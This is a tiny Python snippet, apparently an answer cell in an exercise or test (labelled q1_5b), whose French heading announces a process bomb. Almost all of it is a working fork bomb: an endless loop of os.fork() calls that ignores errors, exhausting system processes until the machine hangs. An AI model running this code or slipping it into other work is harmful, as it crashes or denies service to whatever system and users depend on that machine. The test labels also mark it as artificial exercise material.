# Une bombe de processus, dans une seule réponse.
# loses: test_q1_5b 1
# %% q1_5b
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
